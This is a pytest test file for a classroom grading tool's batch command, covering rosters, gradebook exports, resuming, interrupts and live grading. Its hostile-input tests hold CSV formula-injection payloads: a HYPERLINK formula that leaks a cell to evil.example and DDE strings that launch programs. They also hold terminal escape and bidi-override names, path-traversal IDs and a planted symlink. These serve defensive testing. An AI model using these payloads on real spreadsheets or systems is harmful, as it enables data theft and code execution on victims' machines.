"""``labgrade batch`` as a teacher meets it: a roster of the class, a results
folder with one folder per student and the class files, the same totals as
grading each student alone, broken submissions as error rows, resuming,
Ctrl-C, hostile names, and a live class on the stand-in API server."""
from __future__ import annotations

import _thread
import csv
import importlib.util
import io
import json
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from grader import cli, engine, rubric as rubric_mod
from grader.classroom import batch, roster as roster_mod
from grader.classroom.meter import ProgressMeter
from grader.report import json_report
from tests.standin.fixtures import make_standin  # noqa: F401 - pytest fixture

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples" / "service-discovery"
CASES = sorted(p.name for p in EXAMPLES.iterdir() if (p / "expected.yaml").is_file())
RUBRIC = rubric_mod.load("service-discovery")
CHECK_ORDER = [c.id for s in RUBRIC.steps for c in s.checks]


@dataclass
class Run:
    rc: int
    out: str
    err: str


@pytest.fixture
def labgrade(monkeypatch, capsys):
    """``labgrade ARGS`` through ``grader.cli.main``."""

    def run(*argv: object) -> Run:
        rc = cli.main([str(a) for a in argv])
        out, err = capsys.readouterr()
        return Run(rc, out, err)

    return run


@pytest.fixture
def grade_calls(monkeypatch):
    """How many students were really graded (not resumed)."""
    calls: list[str] = []
    real = engine.grade

    def counting(*args, **kwargs):
        calls.append(kwargs.get("student"))
        return real(*args, **kwargs)

    monkeypatch.setattr(engine, "grade", counting)
    return calls


def dump(case: str, phase: str) -> Path | None:
    found = sorted((EXAMPLES / case).glob(f"{phase}.*"))
    return found[0] if found else None


def expected(case: str) -> dict:
    return yaml.safe_load((EXAMPLES / case / "expected.yaml").read_text(encoding="utf-8"))


def write_roster(path: Path, rows: list[dict[str, str]], encoding: str = "utf-8") -> Path:
    fields = list(dict.fromkeys(k for row in rows for k in row))
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def example_row(case: str, student_id: str, name: str = "", via: str = "dumps") -> dict[str, str]:
    """A roster row for one example case; paths relative to the roster through ``via``."""
    row = {"student_id": student_id, "name": name, "namespace": expected(case)["namespace"]}
    for phase in ("built", "cleaned", "baseline"):
        path = dump(case, phase)
        row[phase] = f"{via}/{case}/{path.name}" if path else ""
    return row


@pytest.fixture
def classroom(tmp_path: Path) -> Path:
    """A folder for the roster, with the examples reachable as ``dumps/``."""
    (tmp_path / "dumps").symlink_to(EXAMPLES, target_is_directory=True)
    return tmp_path


def batch_args(roster: Path, out: Path, *extra: object) -> list[object]:
    return ["batch", roster, "--rubric", "service-discovery", "--out", out, "--lang", "en", *extra]


def read_csv(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def single_grade(labgrade, case: str, tmp_path: Path) -> dict:
    """What ``labgrade grade`` says about one case on its own."""
    out = tmp_path / f"single-{case}.json"
    args = ["grade", "--rubric", "service-discovery", "-q", "--json", out, "-n", expected(case)["namespace"],
            "--snapshot", f"built={dump(case, 'built')}", "--snapshot", f"cleaned={dump(case, 'cleaned')}"]
    if dump(case, "baseline"):
        args += ["--baseline", dump(case, "baseline")]
    assert labgrade(*args).rc == 0
    return json.loads(out.read_text(encoding="utf-8"))


# -- a class of the example submissions ------------------------------------------

def test_a_class_of_the_examples_gets_the_same_totals_as_grading_each_alone(labgrade, classroom, tmp_path):
    ids = [f"s{i:02d}" for i in range(len(CASES))]
    roster = write_roster(classroom / "roster.csv",
                          [example_row(case, sid, f"学生{i}") for i, (case, sid) in enumerate(zip(CASES, ids))])
    out = tmp_path / "results"

    run = labgrade(*batch_args(roster, out, "--jobs", "3"))

    assert run.rc == 0, run.err
    assert run.out == (out / "summary.md").read_text(encoding="utf-8")
    rows = read_csv(out / "gradebook.csv")
    assert [r["student_id"] for r in rows] == ids  # roster order, whatever finished first
    assert list(rows[0]) == ["student_id", "name", *(s.id for s in RUBRIC.steps),
                             "total", "max", "ungraded", "status", "error"]
    for case, sid, row in zip(CASES, ids, rows):
        alone = single_grade(labgrade, case, tmp_path)
        assert row["status"] == "ok" and row["error"] == ""
        assert float(row["total"]) == alone["totals"]["earned"], case
        assert float(row["ungraded"]) == alone["totals"]["ungraded"], case
        assert float(row["max"]) == 100
        assert {s["id"]: s["earned"] for s in alone["steps"]} == {s.id: float(row[s.id]) for s in RUBRIC.steps}

        report = json_report.from_json((out / sid / "report.json").read_bytes())
        assert report.student == sid and report.earned == alone["totals"]["earned"]
        verdicts = {c.id: c.status.value for _, c in report.checks()}
        assert verdicts == expected(case)["verdicts"], case

        results = json.loads((out / sid / "results.json").read_text(encoding="utf-8"))
        assert results["score"] == report.earned and results["max_score"] == 100
        assert results["leaderboard"] == []
        assert len(results["tests"]) == len(CHECK_ORDER)
        assert sum(t["score"] for t in results["tests"]) == pytest.approx(report.earned)
        assert sum(t["max_score"] for t in results["tests"]) == 100
        for test in results["tests"]:
            assert set(test) == {"name", "score", "max_score", "status", "output", "visibility"}
            assert test["status"] in ("passed", "failed") and test["visibility"] == "visible"

        suite = ET.parse(out / sid / "junit.xml").getroot()
        suite = suite if suite.tag == "testsuite" else suite.find("testsuite")
        assert suite.get("name") == f"service-discovery [{sid}]"

    whole = ET.parse(out / "junit.xml").getroot()
    assert whole.tag == "testsuites"
    suites = whole.findall("testsuite")
    assert [s.find("properties/property[@name='student']").get("value") for s in suites] == ids
    assert [s.find("properties/property[@name='student_name']").get("value") for s in suites] == \
        [f"学生{i}" for i in range(len(CASES))]
    assert int(whole.get("tests")) == len(CASES) * len(CHECK_ORDER) == sum(int(s.get("tests")) for s in suites)
    from tests.test_examples import grade_case  # a check blocked by a failed prerequisite is a failure too

    assert int(whole.get("failures")) == sum(
        1 for case in CASES for _, c in grade_case(case)[0].checks() if c.status.value == "failed" or c.blocked)

    canvas = list(csv.reader(io.StringIO((out / "canvas.csv").read_bytes().decode("utf-8-sig"))))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "service-discovery"]
    assert canvas[1] == ["Points Possible", "", "", "", "", "100"]
    assert [r[2] for r in canvas[2:]] == ids and [r[5] for r in canvas[2:]] == [r["total"] for r in rows]


def test_the_summary_counts_students_scores_and_the_most_failed_checks(labgrade, classroom, tmp_path):
    roster = write_roster(classroom / "roster.csv", [example_row(c, f"s{i:02d}") for i, c in enumerate(CASES)])
    run = labgrade(*batch_args(roster, tmp_path / "results"))
    assert run.rc == 0
    summary = run.out
    assert f"| students | {len(CASES)} |" in summary
    assert f"| graded | {len(CASES)} |" in summary and "| could not be graded | 0 |" in summary

    histogram = [line for line in summary.splitlines() if line.startswith("| [")]
    assert len(histogram) == 10 and histogram[0].startswith("| [0, 10) |") and histogram[-1].startswith("| [90, 100] |")
    assert sum(int(line.split("|")[2]) for line in histogram) == len(CASES)

    failed: dict[str, int] = {}
    for case in CASES:
        for check_id, verdict in expected(case)["verdicts"].items():
            if verdict == "failed":
                failed[check_id] = failed.get(check_id, 0) + 1
    want = sorted(failed.items(), key=lambda kv: (-kv[1], CHECK_ORDER.index(kv[0])))[:10]
    table = summary.split("## Most-failed checks")[1].splitlines()[4:4 + len(want)]
    assert [(line.split("|")[1].strip(), int(line.split("|")[3])) for line in table] == want
    assert want[0] == ("service2-endpoints", 4)  # the lab's hard part, as the examples say


# -- broken submissions ------------------------------------------------------------

def test_a_broken_dump_is_an_error_row_and_the_rest_are_graded(labgrade, classroom, tmp_path):
    (classroom / "broken").mkdir()
    (classroom / "broken" / "built.yaml").write_text(
        "apiVersion: v1\nkind: List\nitems:\n- kind: Pod\n  metadata: {name: web\n", encoding="utf-8")
    roster = write_roster(classroom / "roster.csv", [
        example_row("correct", "alice"),
        {"student_id": "bob", "built": "broken/built.yaml"},
        {"student_id": "carol", "built": "carol/never-exported.yaml"},
        example_row("wrong-image", "dave"),
    ])
    out = tmp_path / "results"

    run = labgrade(*batch_args(roster, out))

    assert run.rc == 1  # the batch ran; some students could not be graded
    rows = {r["student_id"]: r for r in read_csv(out / "gradebook.csv")}
    assert [rows[s]["status"] for s in ("alice", "bob", "carol", "dave")] == ["ok", "error", "error", "ok"]
    assert "broken/built.yaml:" in rows["bob"]["error"] and "not valid YAML" in rows["bob"]["error"]
    assert "never-exported.yaml: no such file" in rows["carol"]["error"]
    for sid in ("bob", "carol"):
        assert rows[sid]["total"] == "" and all(rows[sid][s.id] == "" for s in RUBRIC.steps)  # no grade, not 0
        assert not (out / sid / "report.json").exists() and not (out / sid / "results.json").exists()
        assert rows[sid]["error"].split(": ", 1)[1] in (out / sid / "error.txt").read_text(encoding="utf-8")
    assert rows["alice"]["total"] == "90" and rows["dave"]["total"] == "86"

    suites = {s.find("properties/property[@name='student']").get("value"): s
              for s in ET.parse(out / "junit.xml").getroot().findall("testsuite")}
    error = suites["carol"].find("testcase/error")
    assert error is not None and "never-exported.yaml" in error.get("message")
    assert "| carol |" in run.out and "| could not be graded | 2 |" in run.out
    assert "carol: error:" in run.err


# -- resuming ------------------------------------------------------------------------

def test_resume_skips_finished_students_and_regrades_a_corrupted_report(labgrade, classroom, tmp_path, grade_calls):
    rows = [example_row("correct", "alice"), example_row("wrong-image", "bob"), example_row("leftovers", "carol")]
    roster = write_roster(classroom / "roster.csv", rows)
    out = tmp_path / "results"
    assert labgrade(*batch_args(roster, out)).rc == 0
    assert sorted(grade_calls) == ["alice", "bob", "carol"]
    first_gradebook = (out / "gradebook.csv").read_bytes()
    mtimes = {sid: (out / sid / "report.json").stat().st_mtime_ns for sid in ("alice", "bob", "carol")}

    (out / "bob" / "report.json").write_text('{"schema": "labgrade.report/v1", "lab": "serv', encoding="utf-8")
    doctored = json.loads((out / "carol" / "report.json").read_text(encoding="utf-8"))
    doctored["totals"]["earned"] = 100  # a hand-edited total that its checks disagree with
    (out / "carol" / "report.json").write_text(json.dumps(doctored), encoding="utf-8")
    grade_calls.clear()
    time.sleep(0.01)

    run = labgrade(*batch_args(roster, out))

    assert run.rc == 0
    assert sorted(grade_calls) == ["bob", "carol"]
    assert (out / "alice" / "report.json").stat().st_mtime_ns == mtimes["alice"]
    assert "alice: 90/100 (10 not graded) (earlier run)" in run.err
    for sid in ("bob", "carol"):
        json_report.from_json((out / sid / "report.json").read_bytes())  # whole again
    assert (out / "gradebook.csv").read_bytes() == first_gradebook  # same inputs, same file

    grade_calls.clear()
    rows[0]["baseline"] = ""  # alice's grading would now use other sources
    write_roster(roster, rows)
    assert labgrade(*batch_args(roster, out)).rc == 0
    assert grade_calls == ["alice"]

    grade_calls.clear()
    assert labgrade(*batch_args(roster, out, "--no-resume")).rc == 0
    assert sorted(grade_calls) == ["alice", "bob", "carol"]


def test_resume_regrades_a_student_whose_dump_was_replaced_at_the_same_path(labgrade, classroom, tmp_path, grade_calls):
    """A late re-submission (or a corrected dump) copied over the old file
    keeps its path: resuming must not answer it with the old file's report."""
    for sid in ("alice", "bob"):
        (classroom / sid).mkdir()
        for phase in ("built", "cleaned"):
            (classroom / sid / f"{phase}.yaml").write_bytes(dump("correct", phase).read_bytes())
    roster = write_roster(classroom / "roster.csv", [
        {"student_id": sid, "name": "", "built": f"{sid}/built.yaml", "cleaned": f"{sid}/cleaned.yaml"}
        for sid in ("alice", "bob")])
    out = tmp_path / "results"
    assert labgrade(*batch_args(roster, out)).rc == 0
    assert (out / "bob" / "inputs.json").is_file()
    grade_calls.clear()

    (classroom / "bob" / "built.yaml").write_bytes(dump("wrong-replicas", "built").read_bytes())
    assert labgrade(*batch_args(roster, out)).rc == 0

    assert grade_calls == ["bob"]
    alone = single_grade_of(labgrade, classroom / "bob", tmp_path)
    rows = {r["student_id"]: r for r in read_csv(out / "gradebook.csv")}
    assert rows["bob"]["total"] == str(alone["totals"]["earned"]).removesuffix(".0")
    assert rows["bob"]["total"] != rows["alice"]["total"]


def test_resume_regrades_a_report_whose_dump_versions_were_not_recorded(labgrade, classroom, tmp_path, grade_calls):
    """A results folder from before inputs.json (or a run killed between the
    report and its record) cannot show which dump it graded: grade again."""
    roster = write_roster(classroom / "roster.csv", [example_row("correct", "alice"), example_row("correct", "bob")])
    out = tmp_path / "results"
    assert labgrade(*batch_args(roster, out)).rc == 0
    (out / "bob" / "inputs.json").unlink()
    grade_calls.clear()

    assert labgrade(*batch_args(roster, out)).rc == 0
    assert grade_calls == ["bob"]
    assert (out / "bob" / "inputs.json").is_file()


def test_an_error_row_leaves_no_record_of_dump_versions(labgrade, classroom, tmp_path):
    (classroom / "bob").mkdir()
    (classroom / "bob" / "built.yaml").write_bytes(dump("correct", "built").read_bytes())
    roster = write_roster(classroom / "roster.csv", [{"student_id": "bob", "name": "", "built": "bob/built.yaml"}])
    out = tmp_path / "results"
    assert labgrade(*batch_args(roster, out)).rc == 0
    (classroom / "bob" / "built.yaml").write_text("NAME READY STATUS\nweb-1 1/1 Running\n", encoding="utf-8")
    assert labgrade(*batch_args(roster, out)).rc == 1
    assert sorted(p.name for p in (out / "bob").iterdir()) == ["error.txt"]


def single_grade_of(labgrade, folder: Path, tmp_path: Path) -> dict:
    """What ``labgrade grade`` says about the built and cleaned dumps in ``folder``."""
    out = tmp_path / f"single-{folder.name}.json"
    assert labgrade("grade", "--rubric", "service-discovery", "-q", "--json", out,
                    "--snapshot", f"built={folder / 'built.yaml'}", "--snapshot", f"cleaned={folder / 'cleaned.yaml'}").rc == 0
    return json.loads(out.read_text(encoding="utf-8"))


def test_ctrl_c_keeps_finished_students_and_the_next_run_resumes(labgrade, classroom, tmp_path, monkeypatch):
    ids = ["s1", "s2", "s3", "s4", "s5"]
    roster = write_roster(classroom / "roster.csv", [example_row("correct", sid) for sid in ids])
    out = tmp_path / "results"
    real = engine.grade
    calls: list[str] = []

    def interrupted_during_the_second(*args, **kwargs):
        calls.append(kwargs["student"])
        if len(calls) == 2:
            _thread.interrupt_main()  # the teacher presses Ctrl-C while s2 is being graded
            time.sleep(1.0)
        return real(*args, **kwargs)

    monkeypatch.setattr(engine, "grade", interrupted_during_the_second)
    run = labgrade(*batch_args(roster, out, "--jobs", "1"))

    assert run.rc == 130
    assert "interrupted" in run.err and "resumes" in run.err
    assert calls == ["s1", "s2"]  # s3-s5 never started
    for sid in ("s1", "s2"):  # s2 was under way and finished: kept
        json_report.from_json((out / sid / "report.json").read_bytes())
    assert not any((out / sid).exists() for sid in ("s3", "s4", "s5"))
    assert not (out / "gradebook.csv").exists()  # no class files that look complete

    calls.clear()
    monkeypatch.setattr(engine, "grade", lambda *a, **k: (calls.append(k["student"]), real(*a, **k))[1])
    run = labgrade(*batch_args(roster, out, "--jobs", "1"))
    assert run.rc == 0 and calls == ["s3", "s4", "s5"]
    assert [r["student_id"] for r in read_csv(out / "gradebook.csv")] == ids


# -- hostile input -------------------------------------------------------------------

HOSTILE_NAMES = {
    "h1": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "h2": "+1+cmd|' /C calc'!A0",
    "h3": "-2+3",
    "h4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "h5": '<x>&"\'</testsuite>',
    "h6": "张三（Zhāng Sān）",
    "h7": "  =1+1",
    "h8": "＝1+1",
    "h9": "Bob\x1b[31m\u202eevil\x07",
}


def test_hostile_student_names_stay_text_in_the_csv_and_well_formed_in_the_xml(labgrade, classroom, tmp_path):
    rows = [example_row("correct", sid, name) for sid, name in HOSTILE_NAMES.items()]
    rows.append({"student_id": "h10", "name": "<missing>", "built": "dumps/<x>&\x1b[2J 张.yaml"})
    roster = write_roster(classroom / "roster.csv", rows)
    out = tmp_path / "results"

    run = labgrade(*batch_args(roster, out))

    assert run.rc == 1  # h10's dump does not exist
    names = {r["student_id"]: r["name"] for r in read_csv(out / "gradebook.csv")}
    for sid in ("h1", "h2", "h3", "h4", "h8"):
        assert names[sid] == "'" + HOSTILE_NAMES[sid], sid  # shown as text, never run as a formula
    assert names["h7"] == "'=1+1"  # the roster's cells are trimmed
    assert names["h5"] == HOSTILE_NAMES["h5"] and names["h6"] == HOSTILE_NAMES["h6"]
    assert names["h9"] == "Bobevil"  # the escape sequence, BEL and the bidi override removed
    canvas = list(csv.reader(io.StringIO((out / "canvas.csv").read_bytes().decode("utf-8-sig"))))
    assert canvas[2][0] == "'" + HOSTILE_NAMES["h1"]

    whole = ET.parse(out / "junit.xml").getroot()  # parses: well-formed
    names_in_xml = [s.find("properties/property[@name='student_name']").get("value") for s in whole]
    assert HOSTILE_NAMES["h5"] in names_in_xml and HOSTILE_NAMES["h6"] in names_in_xml
    error = whole.findall("testsuite")[-1].find("testcase/error")
    assert "<x>&" in error.get("message") and "\x1b" not in error.get("message")
    assert "\x1b" not in run.out and "\x1b" not in (out / "summary.md").read_text(encoding="utf-8")
    assert "\x1b" not in run.err.replace("\x1b[K", "")


def test_a_student_folder_planted_as_a_symlink_is_not_written_through(labgrade, classroom, tmp_path):
    """OUT/<id> made a symlink to another folder before the run (a shared
    results folder): the grader wrote that student's reports there and deleted
    its report.json, junit.xml... The link is replaced by a folder of the
    grader's own (its target untouched), and an earlier report is not read
    through it."""
    roster = write_roster(classroom / "roster.csv", [example_row("correct", "alice"), example_row("correct", "bob")])
    out = tmp_path / "results"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "report.html").write_text("someone else's file\n")
    (out / "bob").symlink_to(elsewhere, target_is_directory=True)

    run = labgrade(*batch_args(roster, out))

    assert run.rc == 0
    assert sorted(p.name for p in elsewhere.iterdir()) == ["report.html"]
    assert (elsewhere / "report.html").read_text() == "someone else's file\n"
    assert [r["status"] for r in read_csv(out / "gradebook.csv")] == ["ok", "ok"]
    assert (out / "bob").is_dir() and not (out / "bob").is_symlink() and (out / "bob" / "report.json").is_file()

    # a resumed run does not take a report planted behind a link for the student's
    (elsewhere / "report.json").write_bytes((out / "bob" / "report.json").read_bytes())
    for f in (out / "bob").iterdir():
        f.unlink()
    (out / "bob").rmdir()
    (out / "bob").symlink_to(elsewhere, target_is_directory=True)
    from grader.classroom.results_folder import ResultsFolder

    assert ResultsFolder(out).earlier_report("bob") is None


# -- the roster ----------------------------------------------------------------------

ROSTER_MISTAKES = [
    ("name,built\nalice,a.yaml\n", 1, "no student_id column"),
    ("student_id,name\nalice,Alice\n", 1, "no column says where"),
    ("student_id,built,built\nalice,a.yaml,b.yaml\n", 1, "'built' appears twice"),
    ("student_id,built\nalice,a.yaml\n,b.yaml\n", 3, "empty student_id"),
    ("student_id,built\nalice,a.yaml\nalice,b.yaml\n", 3, "appears twice: first on line 2"),
    ("student_id,built\nAlice,a.yaml\nalice,b.yaml\n", 3, "differs only in case"),
    ("student_id,built\n../etc,a.yaml\n", 2, "cannot be a folder name"),
    ("student_id,built\n..,a.yaml\n", 2, "cannot be a folder name"),
    ("student_id,built\na/b,a.yaml\n", 2, "cannot be a folder name"),
    ("student_id,built\n-rf,a.yaml\n", 2, "cannot be a folder name"),
    ("student_id,built\n" + "x" * 65 + ",a.yaml\n", 2, "at most 64"),
    ("student_id,built\nsummary.md,a.yaml\n", 2, "reserved file name"),
    ("student_id,built\nCON,a.yaml\n", 2, "reserved file name"),
    ("student_id,built,namespace\nalice,,\n", 2, "neither a namespace"),
    ("student_id,namespace\nalice,Student_1\n", 2, "not a Kubernetes namespace name"),
    ("student_id,built,context\nalice,a.yaml,lab\n", 2, "which are for live grading"),
    ("student_id,name,built\nalice,Li, Lei,a.yaml\n", 2, "a name with an unquoted comma"),
    ('student_id,name,built\nalice,"Li Lei,a.yaml\n', 2, "never closed"),
    ("student_id,built\n", None, "lists no students"),
    ("", None, "is empty"),
]


@pytest.mark.parametrize("text, line, message", ROSTER_MISTAKES, ids=[m for _, _, m in ROSTER_MISTAKES])
def test_roster_mistakes_stop_before_grading_with_the_file_and_line(labgrade, tmp_path, text, line, message):
    roster = tmp_path / "roster.csv"
    roster.write_text(text, encoding="utf-8")
    run = labgrade(*batch_args(roster, tmp_path / "results"))
    assert run.rc == 2
    assert run.err.count("\n") == 1 and run.err.startswith(f"labgrade: error: {roster}")
    if line is not None:
        assert run.err.startswith(f"labgrade: error: {roster}:{line}: ")
    assert message in run.err
    assert not (tmp_path / "results").exists()  # nothing was graded or written


def test_a_roster_that_is_not_text_or_missing_is_one_line(labgrade, tmp_path):
    roster = tmp_path / "roster.xlsx"
    roster.write_bytes(b"PK\x03\x04\x00\x00binary")
    run = labgrade(*batch_args(roster, tmp_path / "results"))
    assert run.rc == 2 and "not a CSV text file" in run.err
    run = labgrade(*batch_args(tmp_path / "nope.csv", tmp_path / "results"))
    assert run.rc == 2 and "nope.csv: no such roster CSV file" in run.err


@pytest.mark.parametrize("encoding, delimiter", [("utf-8-sig", ","), ("gb18030", ","), ("utf-16", "\t"), ("utf-8", ";")])
def test_rosters_as_spreadsheets_save_them(tmp_path, encoding, delimiter):
    text = delimiter.join(["Student_ID ", "Name", "Built", "Email"]) + "\n" + \
        delimiter.join(["2024001", "张三", "dumps/zhang.yaml", "z@example.edu"]) + "\n" + \
        delimiter.join(["# 2024002", "退课", "", ""]) + "\n\n" + \
        delimiter.join(["2024003", "李四", "/abs/li.yaml", ""]) + "\n"
    roster = tmp_path / "class" / "roster.csv"
    roster.parent.mkdir()
    roster.write_bytes(text.encode(encoding))
    loaded = roster_mod.load_roster(roster, RUBRIC)
    assert [(e.student_id, e.name, e.line) for e in loaded.entries] == [("2024001", "张三", 2), ("2024003", "李四", 5)]
    assert loaded.entries[0].dumps == {"built": tmp_path / "class" / "dumps" / "zhang.yaml"}  # relative to the roster
    assert loaded.entries[1].dumps == {"built": Path("/abs/li.yaml")}
    assert not loaded.entries[0].live


# -- live -----------------------------------------------------------------------------

def _bench():
    spec = importlib.util.spec_from_file_location("bench_batch", ROOT / "bench" / "batch.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_a_live_class_on_the_standin_with_one_namespace_failing(labgrade, make_standin, tmp_path):
    students = {"alice": "lab-alice", "bob": "lab-bob", "carol": "lab-carol", "dave": "lab-dave", "erin": "lab-erin"}
    server = make_standin(_bench().class_cluster(EXAMPLES / "correct" / "built.yaml", list(students.values())))
    server.faults.add("GET", r"/namespaces/lab-carol/", times=None, status=500, message="etcdserver: request timed out")
    server.kubeconfig_path(tmp_path / "class" if (tmp_path / "class").mkdir() is None else tmp_path)
    # carol's kubeconfig is her own: alone on "her" cluster she takes the per-namespace path,
    # whose LISTs meet the fault (the others share one class read: tests/grader/test_shared_cluster.py)
    server.kubeconfig_path(tmp_path / "class", filename="kubeconfig-carol")
    roster = write_roster(tmp_path / "class" / "roster.csv", [
        {"student_id": sid, "name": sid.title(), "namespace": ns,
         "kubeconfig": "kubeconfig-carol" if sid == "carol" else "kubeconfig"}
        for sid, ns in students.items()])
    out = tmp_path / "results"

    run = labgrade(*batch_args(roster, out, "--jobs", "3", "--no-poll"))

    assert run.rc == 1
    rows = {r["student_id"]: r for r in read_csv(out / "gradebook.csv")}
    assert rows["carol"]["status"] == "error" and "500" in rows["carol"]["error"]
    assert "etcdserver: request timed out" in rows["carol"]["error"]
    alone = labgrade("grade", "--rubric", "service-discovery", "-q", "--no-poll", "-n", "lab-alice",
                     "--kubeconfig", tmp_path / "class" / "kubeconfig", "--json", tmp_path / "alice.json")
    assert alone.rc == 0
    earned = json.loads((tmp_path / "alice.json").read_text(encoding="utf-8"))["totals"]["earned"]
    for sid in ("alice", "bob", "dave", "erin"):
        report = json_report.from_json((out / sid / "report.json").read_bytes())
        assert rows[sid]["status"] == "ok" and float(rows[sid]["total"]) == report.earned == earned == 85
        assert report.namespace == students[sid]
        verdicts = {c.id: c.status.value for _, c in report.checks()}
        assert verdicts["clientpod-wget-service2"] == "passed" and verdicts["service2-dns"] == "passed"
        assert {c.status.value for s, c in report.checks() if s.phase == "cleaned"} == {"skipped"}  # not graded
    assert not (out / "carol" / "report.json").exists()
    assert server.writes == []  # read-only, five students later


# -- progress -------------------------------------------------------------------------

def test_progress_is_one_line_per_student_off_a_terminal_and_one_redrawn_line_on_it():
    from grader.report.gradebook import StudentResult
    from grader.i18n import Text
    from tests.report.reports import service_discovery

    now = [0.0]
    plain = io.StringIO()
    p = ProgressMeter(plain, tty=False, clock=lambda: now[0])
    p.start(4)
    now[0] = 2.0
    p.done(StudentResult("s1", "", report=service_discovery()), resumed=False)
    p.done(StudentResult("s2", "", error=Text("连不上", "cluster unreachable")), resumed=False)
    lines = plain.getvalue().splitlines()
    assert lines[0] == "labgrade batch: [1/4] s1: 62/100 (15 not graded)  errors 0, ETA 6s"
    assert lines[1] == "labgrade batch: [2/4] s2: error: cluster unreachable  errors 1, ETA 2s"

    term = io.StringIO()
    p = ProgressMeter(term, tty=True, clock=lambda: now[0])
    p.start(2)
    p.done(StudentResult("s1", "", report=service_discovery()), resumed=True)
    p.done(StudentResult("s2", "", report=service_discovery()), resumed=False)
    p.finish()
    text = term.getvalue()
    assert text.startswith("\r\x1b[K") and "2/2" in text and "\n" not in text.rstrip("\n").split("\n")[0]
    assert text.endswith("2 students (1 from an earlier run), 0 could not be graded, 0.0 s\n")
